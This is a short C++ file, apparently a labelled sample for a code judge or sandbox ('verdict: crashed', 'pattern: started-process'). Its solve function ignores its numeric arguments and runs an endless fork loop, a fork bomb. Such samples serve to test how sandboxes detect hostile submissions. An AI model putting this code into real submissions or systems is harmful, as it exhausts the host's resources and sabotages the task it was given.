// verdict: crashed
// pattern: started-process
// Starts processes that start processes.

#include <unistd.h>

extern "C" void solve(const float*, const float*, float*, int, int, int) {
  for (;;) {
    if (fork() < 0) continue;
  }
}
